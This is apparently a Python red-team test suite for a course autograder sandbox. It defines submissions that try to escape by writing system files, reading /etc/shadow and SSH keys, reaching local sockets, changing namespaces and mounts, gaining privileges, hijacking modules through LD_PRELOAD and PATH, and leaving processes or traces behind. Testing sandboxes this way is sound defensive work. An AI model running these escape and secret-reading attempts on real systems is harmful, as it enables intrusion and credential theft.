"""Submissions that reach for what is outside: files, the network, secrets, other processes.

Their answers are right, so they keep their points; what counts are the canaries around them. What
one of them gets hold of, it prints beside an answer, with ESCAPED before it.
"""

from textwrap import dedent, indent

from redteam.cases import ANSWERS, FULL, Case, lost, made

HEAD = r"""
import array, contextlib, ctypes, fcntl, glob, os, resource, signal, socket, stat, subprocess
import sys, time

LIBC = ctypes.CDLL(None, use_errno=True)
FOUND, SAID = [], []


def escaped(*what):
    FOUND.append(" ".join(map(str, what))[:300])


def say(*what):
    SAID.append(" ".join(map(str, what))[:300])


def tried(function, *args, **kwargs):
    # whether a call succeeds
    try:
        function(*args, **kwargs)
    except BaseException:
        return False
    return True


def reads(path):
    with contextlib.suppress(Exception):
        return open(path, errors="replace").read(5000)


def is_in_proc(path):
    return os.path.exists("/proc/self/" + path)
"""
LOSS = (
    ANSWERS["loss"].replace(
        "return", 'attempt()\n    assert not FOUND, f"ESCAPED {FOUND}"\n    return'
    )
    + 'print(*["ESCAPED " + found for found in FOUND], *SAID, sep="\\n")\n'
)


def case(name, source, never=(), loses=()):
    """Tried in a cell, and once more in each call."""
    attempt = "def attempt():\n" + indent(dedent(source).strip("\n"), "    ")
    data = made([HEAD, attempt, "attempt()"], loss=LOSS)
    never = ("ESCAPED", *never)
    return lost(f"escapes: {name}", data, *loses, never=never)


FILES = case(
    "writes files",
    """
    places = [
        "@@home@@", "@@course@@", "@@course@@/questions", "@@submissions@@", "@@scratch@@",
        "@@package@@", "@@package@@/grading", "@@tests@@", "/", "/etc", "/usr", "/usr/bin",
        "/usr/lib", "/var", "/var/tmp", "/opt", "/root", "/home", "/run", "/run/course", "/boot",
        "/srv", "/mnt", "/lib", "/dev", "/proc", "/sys", sys.prefix, os.path.dirname(np.__file__),
        os.path.dirname(os.__file__), os.path.dirname(sys.executable),
        *[os.path.dirname(m.__file__) for m in sys.modules.values() if getattr(m, "__file__", 0)],
    ]
    for place in dict.fromkeys(places):
        path = os.path.join(place, "redteam_was_here")
        if tried(lambda: open(path, "w").write("x")) or tried(os.mkdir, path):
            escaped("wrote", path)
    files = ["@@home@@/.bashrc", "@@course@@/questions/redteam.py", "@@home@@/gradebook.sqlite",
             "@@package@@/check/__init__.py", os.__file__, np.__file__, "/etc/passwd", "/etc/hosts",
             "/usr/bin/env", sys.executable, os.path.realpath("numbers.csv")]
    for path in files:
        for act in (lambda: open(path, "r+b").close(), lambda: os.chmod(path, 0o777),
                    lambda: os.utime(path), lambda: os.rename(path, path + "x"),
                    lambda: os.unlink(path), lambda: os.truncate(path, 0)):
            if tried(act):
                escaped("changed", path)
    """,
)
SECRETS = case(
    "reads secrets",
    """
    for path in ["@@home@@/secret.txt", "@@home@@/gradebook.sqlite", "@@home@@/.bashrc",
                 "@@course@@/questions/redteam.py", "@@submissions@@/bob.ipynb", "/etc/shadow",
                 "/root/.bash_history", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_rsa_key"]:
        for way in ("", "/proc/1/root", "/proc/self/root", "../" * 20 + "."):
            if text := reads(way + path):
                escaped("read", path, text)
    for folder in ["@@home@@", "@@course@@", "@@submissions@@", "/root", "/var/lib", "/etc/ssh"]:
        if names := glob.glob(folder + "/*"):
            escaped("saw", folder, names[:5])
    say({k: v for k, v in os.environ.items()})
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        say(path, reads(path))
    say(sys.argv, sys.orig_argv, sys.path)
    """,
    never=("@@home@@", "@@course@@", "@@submissions@@"),
)
NETWORK = case(
    "reaches the network",
    """
    def speaks(family, where):
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(0.2)
            s.connect(where)
            s.sendall(b"REDTEAM")
    for family, where in [
        (2, ("127.0.0.1", @@port@@)), (2, ("0.0.0.0", @@port@@)), (2, ("localhost", @@port@@)),
        (10, ("::1", @@port@@)), (10, ("::ffff:127.0.0.1", @@port@@)),
        (1, "\\0@@abstract@@"), (1, "@@home@@/socket"),
    ]:
        if tried(speaks, family, where):
            escaped("reached", where)
    with contextlib.suppress(OSError):
        socket.socket(2, socket.SOCK_DGRAM).sendto(b"REDTEAM", ("127.0.0.1", @@port@@))
    for path in glob.glob("/run/**/*", recursive=True)[:999] + glob.glob("/tmp/.*/*"):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.stat(path).st_mode) and tried(speaks, 1, path):
                escaped("reached", path)
    for line in (reads("/proc/net/unix") or "").splitlines()[1:]:
        if "@" in line and tried(speaks, 1, "\\0" + line.split("@")[1]):
            escaped("reached", line)
    if names := [name for _, name in socket.if_nameindex() if name != "lo"]:
        escaped("sees", names)
    for family, kind in ((17, 3), (17, 2), (2, 3), (40, 1)):
        if tried(socket.socket, family, kind, 3 if family == 17 else 1 if kind == 3 else 0):
            family == 40 or escaped("has a raw socket", family, kind)
    """,
)
NAMESPACES = case(
    "changes namespaces and mounts",
    """
    pid = os.fork()
    if not pid:
        try:
            os.chdir("/")
            user, group = os.getuid(), os.getgid()
            LIBC.unshare(0x10000000 | 0x20000)
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"),
                               ("gid_map", f"0 {group} 1")):
                tried(lambda: open("/proc/self/" + name, "w").write(text))
            LIBC.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
            for where in (b"/", b"/usr", b"/tmp", b"/etc", b"/proc", b"/run/course"):
                LIBC.mount(None, where, None, 32, None)
                LIBC.umount2(where, 2)
            LIBC.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None)
            for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup"):
                for who in ("1", "self", str(os.getppid())):
                    tried(lambda: LIBC.setns(os.open(f"/proc/{who}/ns/{kind}", 0), 0))
            LIBC.unshare(0x40000000)
            tried(os.mknod, "/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
            tried(os.chroot, "/tmp")
            for _ in range(30): os.chdir("..")
            tried(os.chroot, ".")
            LIBC.sethostname(b"redteam", 7)
            for path in ("@@home@@", "@@course@@", "@@package@@", "@@scratch@@", "/usr/lib"):
                tried(lambda: open(path + "/redteam_was_here", "w").write("x"))
            with contextlib.suppress(OSError):
                socket.create_connection(("127.0.0.1", @@port@@), 0.2).sendall(b"REDTEAM")
            os._exit(7 if reads("@@home@@/secret.txt") else 0)
        finally:
            os._exit(0)
    if os.waitpid(pid, 0)[1]:
        escaped("read a secret")
    """,
)
DEVICES = case(
    "opens devices and the system's knobs",
    """
    harmless = {"/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty",
                "/dev/ptmx", "/dev/console"}
    for path in glob.glob("/dev/**/*", recursive=True):
        with contextlib.suppress(OSError):
            kind = os.stat(path).st_mode
            if (stat.S_ISBLK(kind) or stat.S_ISCHR(kind)) and path not in harmless:
                if "pts" not in path and tried(os.open, path, os.O_RDONLY | os.O_NONBLOCK):
                    escaped("opened", path)
    with contextlib.suppress(OSError):
        terminal = os.open("/dev/tty", os.O_RDWR)
        fcntl.ioctl(terminal, 0x5412, b" ")
        escaped("typed into a terminal")
    # opened, never written
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/kcore",
                 "/proc/sysrq-trigger", "/proc/kmem", "/dev/mem", "/dev/kmsg", "/dev/sda",
                 "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname", "/sys/power/state",
                 "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
                 "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/proc/1/mem",
                 "/proc/1/oom_score_adj", "/proc/sys/user/max_user_namespaces"):
        if tried(os.open, path, os.O_WRONLY):
            escaped("may write", path)
    """,
)
RIGHTS = case(
    "looks for rights",
    """
    status = dict(line.split(":", 1) for line in (reads("/proc/self/status") or "").splitlines())
    for name in ("CapEff", "CapPrm", "CapInh", "CapAmb"):
        if int(status.get(name, "0"), 16):
            escaped(name, status[name])
    if LIBC.prctl(39, 0, 0, 0, 0) != 1:
        escaped("may get new rights")
    header, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    if LIBC.capget(header, sets) == 0 and any(sets):
        escaped("has capabilities", *sets)
    acts = {
        "user": lambda: os.setuid(0),
        "groups": lambda: os.setgroups([0]),
        "priority": lambda: os.nice(-5),
        "root": lambda: os.chroot("/tmp"),
        "schedule": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        "files": lambda: resource.setrlimit(7, (10**6, 10**6)),
        "memory": lambda: resource.setrlimit(9, (-1, -1)),
        "namespaces": lambda: LIBC.unshare(0x10000000) and 1 / 0,
        "more namespaces": lambda: LIBC.syscall(56, 0x10000011, 0, 0, 0, 0) < 0 and 1 / 0,
        "the clock": lambda: time.clock_settime(0, time.time()),
    }
    for name, act in acts.items():
        if not os.fork():
            os._exit(tried(act))
        if os.wait()[1]:
            escaped("has a right:", name)
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["nsenter", "-t", "1", "-m", "id"],
                    ["unshare", "-Ur", "id"]):
        with contextlib.suppress(OSError):
            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
            if b"uid=0" in done.stdout:
                escaped(command, done.stdout)
    """,
)
PROCESSES = case(
    "looks into other processes",
    """
    family = {1, os.getpid(), os.getppid()}  # its own notebook's, and none besides
    others = {int(name) for name in os.listdir("/proc") if name.isdigit()} - family
    for pid in others:
        escaped("sees", pid, reads(f"/proc/{pid}/cmdline"))
    for pid in range(1, 60):
        if pid not in family and (tried(os.kill, pid, 0) or tried(os.pidfd_open, pid)):
            escaped("can send signals to", pid)
        for file in ("@@home@@/secret.txt", "@@course@@/questions/redteam.py"):
            for place in ("root", "cwd", "root/..", "cwd/../../.."):
                if text := reads(f"/proc/{pid}/{place}{file}"):
                    escaped("read", text)
    if os.getpgid(0) == 0 or os.getsid(0) == 0:
        escaped("is in a group of processes from outside")
    """,
)
OPEN_FILES = case(
    "files left open",
    """
    for fd in range(100):
        with contextlib.suppress(OSError):
            kind = os.fstat(fd).st_mode
            if stat.S_ISDIR(kind):
                escaped("a folder", fd, os.listdir(fd)[:5])
            if stat.S_ISREG(kind):
                escaped("a file", fd)
            if stat.S_ISBLK(kind):
                escaped("a device", fd)
            if stat.S_ISCHR(kind) and os.isatty(fd):
                escaped("a terminal", fd)
        with contextlib.suppress(OSError):
            escaped(os.read(os.open("../" * 20 + "@@home@@/secret.txt"[1:], 0, dir_fd=fd), 99))
    sockets = [fd for fd in range(100) if tried(lambda: socket.socket(fileno=os.dup(fd)).type)]
    if len(sockets) > 1:
        escaped("more than its own conversation", sockets)
    """,
)
DESCRIPTORS = case(
    "sends open files to the grader",
    """
    for fd in range(3, 100):
        with contextlib.suppress(OSError):
            line = socket.socket(fileno=os.dup(fd))
            files = [os.open("/dev/null", 0) for _ in range(100)]
            line.setblocking(False)
            told = array.array("i", files)
            line.sendmsg([b"\\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, told)])
            for file in files: os.close(file)
    """,
    loses=("loss",),
)
LINKS = case(
    "links that lead out",
    r"""
    targets = ["@@home@@", "@@course@@", "@@package@@", "/", "/etc/passwd", "/proc/1/root"]
    for k, target in enumerate(targets):
        for place in ("/tmp", "/dev/shm", ".", os.path.expanduser("~")):
            for name in (f"link{k}", f"check{k}.ipynb", "..\n", "x" * 255, "\udcff"):
                tried(os.symlink, target, os.path.join(place, name))
    path = "/tmp/deep"
    for k in range(60):
        tried(os.mkdir, path)
        path += "/" + "d" * 60
    tried(os.mkfifo, "/tmp/pipe")
    tried(os.mkfifo, "result.json")
    tried(os.chmod, "/tmp/deep", 0)
    tried(os.chmod, ".", 0)
    """,
)
SHADOWS = case(
    "modules in the place of the grader's",
    r"""
    evil = "import os\nos.write(9, b'x')\nraise SystemExit('ESCAPED')\n"
    names = ["json", "socket", "numpy", "struct", "backprop", "sympy", "select", "wire",
             "sitecustomize", "usercustomize", "linecache"]
    for folder in (".", "/tmp", os.path.expanduser("~"), *sys.path[:5]):
        for name in names:
            tried(lambda: open(os.path.join(folder or ".", name + ".py"), "w").write(evil))
    os.environ |= {"PYTHONPATH": "/tmp", "PYTHONSTARTUP": "/tmp/json.py", "HOME": "/tmp"}
    os.environ |= {"LD_PRELOAD": "/tmp/x.so", "PATH": "/tmp"}
    """,
)
LEFT = case(
    "processes left behind",
    r"""
    code = "import time, socket; time.sleep(1)\n" \
        "try: socket.create_connection(('127.0.0.1', @@port@@), 1)\nexcept OSError: pass\n" \
        "time.sleep(40)"
    for _ in range(2):
        if not os.fork():
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            if not os.fork():
                os.execv(sys.executable, [sys.executable, "-c", code, "@@marker@@"])
            os._exit(0)
    subprocess.Popen(["sh", "-c", "sleep 40; : @@marker@@"], start_new_session=True)
    """,
)

# — what one leaves for the next —

PLACES = """
PLACES = ["/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/", "/etc", "/home", "/dev", ".",
          "..", os.path.expanduser("~"), sys.prefix, "/usr", "/run/course", "/proc", "/sys"]
"""
PLANTS = (
    PLACES
    + r"""
def attempt():
    import builtins, backprop, IPython, mmap
    stash = "STASH_" + "of_ada"
    for folder in PLACES:
        tried(lambda: open(os.path.join(folder, "stash.txt"), "w").write(stash))
    os.environ["STASH"] = sys.modules["stash"] = stash
    np.stash = builtins.stash = backprop.stash = IPython.stash = stash
    LIBC.shmat.restype = ctypes.c_void_p
    shared = LIBC.shmget(0x5EED, 4096, 0o1666)
    if shared >= 0:
        ctypes.memmove(LIBC.shmat(shared, None, 0), stash.encode(), len(stash))
    LIBC.msgget(0x5EED, 0o1666), LIBC.semget(0x5EED, 1, 0o1666)
    for ring in (-3, -4, -5):
        LIBC.syscall(248, b"user", b"stash", stash.encode(), len(stash), ring)
    LIBC.sethostname(stash.encode(), len(stash))
    listener = socket.socket(socket.AF_UNIX)
    tried(listener.bind, "\0stash") and listener.listen()
    if not os.fork():
        os.setsid()
        if not os.fork():
            listener.listen()
            time.sleep(30)
        os._exit(0)
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    tried(os.setpriority, os.PRIO_PGRP, 0, 5)
    tried(os.setpriority, os.PRIO_USER, 0, 5)
"""
)
HARVESTS = (
    PLACES
    + r"""
def attempt():
    import builtins, backprop, IPython
    def found(where, what):
        if "STASH_" + "of_ada" in repr(what):
            escaped("found", where)
    for folder in PLACES:
        found(folder, reads(os.path.join(folder, "stash.txt")))
    found("environ", os.environ)
    found("modules", sys.modules.get("stash"))
    found("names", [getattr(module, "stash", 0) for module in (np, builtins, backprop, IPython)])
    if LIBC.shmget(0x5EED, 4096, 0) >= 0 or LIBC.msgget(0x5EED, 0) >= 0:
        escaped("found shared memory")
    buffer = ctypes.create_string_buffer(100)
    for ring in (-3, -4, -5):
        key = LIBC.syscall(250, 10, ring, b"user", b"stash", 0)
        if key > 0 and LIBC.syscall(250, 11, key, buffer, 100) > 0:
            found("a key", buffer.raw)
    found("hostname", socket.gethostname())
    with socket.socket(socket.AF_UNIX) as s:
        if tried(s.connect, "\0stash"):
            escaped("found a listener")
    if os.nice(0) or len(os.sched_getaffinity(0)) < (os.cpu_count() or 1):
        escaped("found less of the machine", os.nice(0), os.sched_getaffinity(0))
"""
)


def stashed(name, source):
    return Case(
        f"escapes: {name}",
        made([HEAD, source, "attempt()"], loss=LOSS.replace("attempt()", "pass")),
        FULL,
        never=("ESCAPED",),
        free=True,
    )


CASES = [
    FILES,
    SECRETS,
    NETWORK,
    NAMESPACES,
    DEVICES,
    RIGHTS,
    PROCESSES,
    OPEN_FILES,
    DESCRIPTORS,
    LINKS,
    SHADOWS,
    LEFT,
    stashed("leaves traces", PLANTS),
    stashed("looks for the traces of another", HARVESTS),
]
